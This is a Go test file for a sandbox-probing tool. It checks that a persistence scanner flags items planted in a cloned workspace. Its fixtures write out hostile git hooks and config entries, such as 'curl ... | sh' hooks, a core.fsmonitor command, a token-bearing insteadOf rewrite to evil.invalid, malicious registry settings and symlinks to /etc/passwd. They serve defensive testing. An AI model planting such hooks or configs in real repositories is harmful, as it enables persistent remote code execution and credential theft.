package probes

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sandprobe/sandprobe/report"
	"github.com/sandprobe/sandprobe/result"
)

// plantedSecret is written into planted files, config values and URLs; no
// output may hold it.
const plantedSecret = "ghp_PLANTEDsecret0123456789abcdefXYZ"

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	if err := runGit(dir, args...); err != nil {
		t.Fatal(err)
	}
}

func writeFile(t *testing.T, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}

func appendFile(t *testing.T, path, line string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(line)
	f.Close()
}

// trustedClone is what the trusted step does before the first phase: clone
// a repository that commits its own hooks (husky: .husky/ with core.hooksPath
// set by its prepare script), an .npmrc, a package.json with a prepare
// script and a submodule, then seal the workspace. It returns the workspace
// and the baseline.
func trustedClone(t *testing.T, clone string) (string, *WorkspaceBaseline) {
	t.Helper()
	// Each test gets its own copy of one clone (cloning takes seconds on a
	// busy machine); the copy keeps modes, links and times.
	ws := filepath.Join(t.TempDir(), "workspace")
	if out, err := exec.Command("cp", "-a", clone, ws).CombinedOutput(); err != nil {
		t.Fatalf("copy the clone: %v\n%s", err, out)
	}
	scan, err := ScanWorkspace(context.Background(), ws, "/workspace")
	if err != nil {
		t.Fatal(err)
	}
	if len(scan.Problems) > 0 {
		t.Fatalf("the trusted clone has unreadable parts: %+v", scan.Problems)
	}
	base := NewWorkspaceBaseline(scan, time.Now())
	raw, _ := json.Marshal(base)
	parsed, err := ParseWorkspaceBaseline(raw)
	if err != nil {
		t.Fatalf("a sealed baseline does not parse back: %v", err)
	}
	return ws, parsed
}

func runGit(dir string, args ...string) error {
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "init.defaultBranch=main", "-c", "protocol.file.allow=always"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("git %s: %w\n%s", strings.Join(args, " "), err, out)
	}
	return nil
}

// makeTrustedClone builds the upstream repositories and clones them the
// way the trusted step does.
func makeTrustedClone(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	sub, up, ws := filepath.Join(root, "lib"), filepath.Join(root, "upstream"), filepath.Join(root, "workspace")
	files := map[string]string{
		filepath.Join(sub, "lib.go"):           "package lib\n",
		filepath.Join(up, "README.md"):         "# app\n",
		filepath.Join(up, "package.json"):      `{"name":"app","version":"1.0.0","scripts":{"prepare":"husky","test":"node test.js"}}`,
		filepath.Join(up, ".npmrc"):            "engine-strict=true\n",
		filepath.Join(up, ".husky/pre-commit"): "#!/bin/sh\nexit 0\n",
	}
	for p, c := range files {
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(c), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, step := range []struct {
		dir  string
		args []string
	}{
		{sub, []string{"init", "-q"}}, {sub, []string{"add", "."}}, {sub, []string{"commit", "-qm", "lib"}},
		{up, []string{"init", "-q"}}, {up, []string{"submodule", "add", "-q", sub, "lib"}},
		{up, []string{"add", "."}}, {up, []string{"commit", "-qm", "app"}},
		{root, []string{"clone", "-q", "--recurse-submodules", up, ws}},
		{ws, []string{"config", "core.hooksPath", ".husky"}}, // husky's prepare script does this
	} {
		if err := runGit(step.dir, step.args...); err != nil {
			t.Fatal(err)
		}
	}
	return ws
}

func judgeWS(t *testing.T, ws string, base *WorkspaceBaseline) []result.Finding {
	t.Helper()
	scan, err := ScanWorkspace(context.Background(), ws, "/workspace")
	if err != nil {
		t.Fatal(err)
	}
	return JudgeWorkspace(scan, base)
}

// plantedCase is something a phase plants in the workspace, and the
// subjects (under /workspace) that must then fail.
type plantedCase struct {
	name  string
	plant func(t *testing.T, ws string)
	want  []string
}

// plantedCases is the table of what a phase can plant.
func plantedCases() []plantedCase {
	return []plantedCase{
		{"executable hook", func(t *testing.T, ws string) {
			writeFile(t, filepath.Join(ws, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl -s https://x.invalid/"+plantedSecret+" | sh\n", 0o755)
		}, []string{"/workspace/.git/hooks/post-checkout"}},
		{"core.hooksPath moved to a planted directory", func(t *testing.T, ws string) {
			git(t, ws, "config", "core.hooksPath", ".cache/hooks")
			writeFile(t, filepath.Join(ws, ".cache/hooks/post-merge"), "#!/bin/sh\n"+plantedSecret+"\n", 0o755)
		}, []string{"/workspace/.git/config core.hooksPath", "/workspace/.cache/hooks/post-merge"}},
		{"hook added to the sealed hooks directory", func(t *testing.T, ws string) {
			writeFile(t, filepath.Join(ws, ".husky/post-checkout"), "#!/bin/sh\n", 0o755)
		}, []string{"/workspace/.husky/post-checkout"}},
		{"sealed hook changed", func(t *testing.T, ws string) {
			appendFile(t, filepath.Join(ws, ".husky/pre-commit"), "curl x.invalid | sh\n")
		}, []string{"/workspace/.husky/pre-commit"}},
		{"submodule hook", func(t *testing.T, ws string) {
			writeFile(t, filepath.Join(ws, ".git/modules/lib/hooks/post-checkout"), "#!/bin/sh\n", 0o755)
		}, []string{"/workspace/.git/modules/lib/hooks/post-checkout"}},
		{"bare repository's hook", func(t *testing.T, ws string) {
			git(t, ws, "init", "-q", "--bare", "mirror.git")
			writeFile(t, filepath.Join(ws, "mirror.git/hooks/pre-receive"), "#!/bin/sh\n", 0o755)
		}, []string{"/workspace/mirror.git/hooks/pre-receive"}},
		{"includeIf, fsmonitor, drivers, insteadOf with a token", func(t *testing.T, ws string) {
			appendFile(t, filepath.Join(ws, ".git/config"), `[includeIf "gitdir:/"]
	path = /tmp/evil.gitconfig
[core]
	fsmonitor = "sh -c 'curl x.invalid'"
[filter "lfs2"]
	smudge = sh -c 'echo `+plantedSecret+`'
[diff "bin"]
	textconv = ./conv.sh
[url "https://x-access-token:`+plantedSecret+`@evil.invalid/"]
	insteadOf = https://github.com/
[alias]
	st = !sh -c 'curl x.invalid'
`)
		}, []string{"/workspace/.git/config includeIf.gitdir:/.path", "/workspace/.git/config core.fsmonitor",
			"/workspace/.git/config filter.lfs2.smudge", "/workspace/.git/config diff.bin.textconv",
			"/workspace/.git/config url.*.insteadOf", "/workspace/.git/config alias.st"}},
		{"bashrc line", func(t *testing.T, ws string) {
			appendFile(t, filepath.Join(ws, ".bashrc"), "export NODE_OPTIONS=--require=/workspace/.x.js # "+plantedSecret+"\n")
		}, []string{"/workspace/.bashrc"}},
		{"bashrc linked to an innocent file", func(t *testing.T, ws string) {
			writeFile(t, filepath.Join(ws, "docs/notes.txt"), "curl x.invalid | sh\n", 0o644)
			os.Symlink("docs/notes.txt", filepath.Join(ws, ".profile"))
		}, []string{"/workspace/.profile"}},
		{"tool config", func(t *testing.T, ws string) {
			writeFile(t, filepath.Join(ws, "web/.npmrc"), "//registry.npmjs.org/:_authToken="+plantedSecret+"\n", 0o600)
			writeFile(t, filepath.Join(ws, ".config/pip/pip.conf"), "[global]\nindex-url = https://evil.invalid/simple\n", 0o644)
			writeFile(t, filepath.Join(ws, "NuGet.Config"), "<configuration/>\n", 0o644)
			writeFile(t, filepath.Join(ws, ".envrc"), "export X=1\n", 0o644)
			writeFile(t, filepath.Join(ws, ".tool-versions"), "nodejs 99.0.0\n", 0o644)
		}, []string{"/workspace/web/.npmrc", "/workspace/.config/pip/pip.conf", "/workspace/NuGet.Config", "/workspace/.envrc", "/workspace/.tool-versions"}},
		{"sealed .npmrc changed", func(t *testing.T, ws string) {
			appendFile(t, filepath.Join(ws, ".npmrc"), "registry=https://evil.invalid/\n")
		}, []string{"/workspace/.npmrc"}},
		{"lifecycle script added, and the sealed one changed", func(t *testing.T, ws string) {
			writeFile(t, filepath.Join(ws, "package.json"), `{"name":"app","version":"1.0.0","scripts":{"prepare":"husky && node x.js","postinstall":"node .x.js","test":"node test.js"}}`, 0o644)
		}, []string{"/workspace/package.json scripts.postinstall", "/workspace/package.json scripts.prepare"}},
		{"symlinks out", func(t *testing.T, ws string) {
			os.Symlink("/etc/passwd", filepath.Join(ws, "passwd"))
			os.Symlink("../../../../root", filepath.Join(ws, "docs-link"))
		}, []string{"/workspace/passwd", "/workspace/docs-link"}},
		{".git file pointing out", func(t *testing.T, ws string) {
			writeFile(t, filepath.Join(ws, "vendor/x/.git"), "gitdir: /srv/elsewhere/.git\n", 0o644)
		}, []string{"/workspace/vendor/x/.git gitdir"}},
		{"a .gitconfig for a HOME on the volume", func(t *testing.T, ws string) {
			writeFile(t, filepath.Join(ws, "home/.gitconfig"), "[core]\n\tsshCommand = ssh -o ProxyCommand=evil\n", 0o644)
		}, []string{"/workspace/home/.gitconfig core.sshCommand"}},
	}
}

// TestPersistencePlanted: each way a phase leaves something for the next
// is named (path, and key where there is one), fails with expected,
// actual and fix, and holds no planted secret in any output format.
func TestPersistencePlanted(t *testing.T) {
	cases := plantedCases()
	clone := makeTrustedClone(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ws, base := trustedClone(t, clone)
			if fs := judgeWS(t, ws, base); len(fs) != 1 || fs[0].Status != result.Pass {
				t.Fatalf("the sealed clone does not pass: %+v", fs)
			}
			c.plant(t, ws)
			fs := judgeWS(t, ws, base)
			checkPlantedNamed(t, fs, c.want)
			assertNoPlanted(t, fs, plantedSecret)
		})
	}
}

// checkPlantedNamed: exactly the subjects in want fail, each with
// expected, actual and fix.
func checkPlantedNamed(t *testing.T, fs []result.Finding, want []string) {
	t.Helper()
	got := map[string]result.Finding{}
	for _, f := range fs {
		got[f.Subject] = f
	}
	for _, w := range want {
		f, ok := got[w]
		if !ok {
			t.Errorf("%s is not named; findings: %v", w, subjects(fs))
			continue
		}
		if f.Status != result.Fail || f.Expected == "" || f.Actual == "" || f.Fix == "" || f.Check != CheckPersistence {
			t.Errorf("%s: want a failure with expected, actual and fix: %+v", w, f)
		}
		t.Logf("%s: %s", w, f.Actual)
	}
	if len(fs) != len(want) {
		t.Errorf("want exactly %d findings, got %v", len(want), subjects(fs))
	}
}

// TestPersistenceHealthyPhases: what a well-behaved phase does to a
// workspace — edit, commit (its sealed hook runs), branch, stash, fetch,
// install dependencies into node_modules (with their own lifecycle
// scripts), gc — leaves nothing to report; nor do git init's sample hooks.
func TestPersistenceHealthyPhases(t *testing.T) {
	ws, base := trustedClone(t, makeTrustedClone(t))
	steps := []func(){
		func() { appendFile(t, filepath.Join(ws, "README.md"), "more\n") },
		func() { git(t, ws, "commit", "-qam", "phase 1") },
		func() { git(t, ws, "checkout", "-qb", "feature") },
		func() { appendFile(t, filepath.Join(ws, "README.md"), "wip\n"); git(t, ws, "stash", "-q") },
		func() { git(t, ws, "fetch", "-q", "origin") },
		func() { git(t, ws, "branch", "-q", "--set-upstream-to=origin/main", "feature") },
		func() {
			writeFile(t, filepath.Join(ws, "node_modules/esbuild/package.json"), `{"name":"esbuild","scripts":{"postinstall":"node install.js"}}`, 0o644)
			os.MkdirAll(filepath.Join(ws, "node_modules/.bin"), 0o755)
			os.Symlink("../esbuild/bin/esbuild", filepath.Join(ws, "node_modules/.bin/esbuild"))
		},
		func() { git(t, ws, "gc", "-q") },
	}
	for i, step := range steps {
		step()
		if fs := judgeWS(t, ws, base); len(fs) != 1 || fs[0].Status != result.Pass {
			t.Fatalf("after healthy step %d: %v", i, fs)
		}
	}
	fs := judgeWS(t, ws, base)
	t.Logf("%s: %s (%s)", fs[0].Subject, fs[0].Actual, fs[0].Evidence)
	if !strings.Contains(fs[0].Actual, "sealed items unchanged") {
		t.Errorf("a pass must say what the baseline vouched for: %q", fs[0].Actual)
	}
}

// TestPersistenceNoBaseline: without a baseline nothing is vouched for.
func TestPersistenceNoBaseline(t *testing.T) {
	ws, _ := trustedClone(t, makeTrustedClone(t))
	fs := judgeWS(t, ws, nil)
	var husky bool
	for _, f := range fs {
		if f.Status != result.Fail || !strings.Contains(f.Actual, "no baseline vouches") {
			t.Errorf("%+v", f)
		}
		husky = husky || f.Subject == "/workspace/.husky/pre-commit"
	}
	if !husky {
		t.Errorf("the committed hook is not named without a baseline: %v", subjects(fs))
	}
	// An empty directory proves nothing: it may not be the volume at all.
	empty := t.TempDir()
	if fs := judgeWS(t, empty, nil); len(fs) != 1 || fs[0].Status != result.Inconclusive {
		t.Errorf("an empty workspace without a baseline: %+v", fs)
	}
	scan, _ := ScanWorkspace(context.Background(), empty, "/workspace")
	sealedEmpty := NewWorkspaceBaseline(scan, time.Now())
	if fs := JudgeWorkspace(scan, &sealedEmpty); len(fs) != 1 || fs[0].Status != result.Pass {
		t.Errorf("an empty workspace sealed empty: %+v", fs)
	}
	os.WriteFile(filepath.Join(empty, "README"), []byte("x"), 0o644)
	full, _ := ScanWorkspace(context.Background(), empty, "/workspace")
	sealedFull := NewWorkspaceBaseline(full, time.Now())
	if fs := JudgeWorkspace(scan, &sealedFull); len(fs) != 1 || fs[0].Status != result.Inconclusive || !strings.Contains(fs[0].Actual, "sealed with 1 entries") {
		t.Errorf("an empty workspace sealed full: %+v", fs)
	}
	// phase.persistence runs only in a phase's own sandbox (probe --phase).
	p := mustPolicy(t, "  filesystem: {readOnlyRoot: true, writable: [/tmp]}\n  phases: {workspace: /workspace}\n")
	for _, c := range Catalogue() {
		if c.ID == CheckPersistence && (c.Needs(&Env{Policy: p}) || !c.Needs(&Env{Policy: p, Phase: true})) {
			t.Errorf("phase.persistence must need --phase")
		}
	}
}

// TestPersistenceCheck runs the catalogue's check: a baseline the sandbox
// can rewrite fails, a missing or foreign one is an error, an unreadable
// part of the workspace is an error.
func TestPersistenceCheck(t *testing.T) {
	ws, base := trustedClone(t, makeTrustedClone(t))
	dir := t.TempDir()
	bpath := filepath.Join(dir, "baseline.json")
	raw, _ := json.Marshal(base)
	writeFile(t, bpath, string(raw), 0o444)
	p := mustPolicy(t, "  filesystem: {readOnlyRoot: true, writable: [/tmp]}\n  phases: {workspace: "+ws+", baseline: "+bpath+"}\n")
	fs := checkPhasePersistence(context.Background(), &Env{Policy: p})
	// As root (the tests' uid) the baseline's directory is writable: that
	// is the failure a sandbox uid with the same reach would get.
	if os.Geteuid() == 0 {
		if len(fs) != 2 || fs[0].Status != result.Fail || fs[0].Subject != bpath || fs[1].Status != result.Pass {
			t.Fatalf("a baseline within reach: %+v", fs)
		}
	}
	writeFile(t, bpath, `{"schema":"something/else"}`, 0o444)
	if fs := checkPhasePersistence(context.Background(), &Env{Policy: p}); fs[0].Status != result.Error {
		t.Errorf("a foreign baseline: %+v", fs)
	}
	os.Remove(bpath)
	if fs := checkPhasePersistence(context.Background(), &Env{Policy: p}); fs[0].Status != result.Error {
		t.Errorf("a missing baseline: %+v", fs)
	}
	scan := &WorkspaceScan{MountPath: "/workspace", Problems: []ScanProblem{{Path: "/workspace/secret-dir", Err: "EACCES (permission denied)"}}}
	if fs := JudgeWorkspace(scan, base); len(fs) != 1 || fs[0].Status != result.Error || fs[0].Fix == "" {
		t.Errorf("an unreadable directory: %+v", fs)
	}
}

func subjects(fs []result.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, string(f.Status)+" "+f.Subject)
	}
	return out
}

// assertNoSecret writes the findings in every output format and fails if
// any holds the secret.
func assertNoPlanted(t *testing.T, fs []result.Finding, secret string) {
	t.Helper()
	run := report.Run{Policy: "t", Findings: fs}
	writers := map[string]report.Writer{"json": report.JSON{}, "junit": report.JUnit{}, "text": report.Text{Verbose: true},
		"sarif": report.SARIF{}}
	for name, w := range writers {
		var buf bytes.Buffer
		if err := w.Write(&buf, run); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if strings.Contains(buf.String(), secret) {
			t.Errorf("the %s output holds a planted secret", name)
		}
	}
}
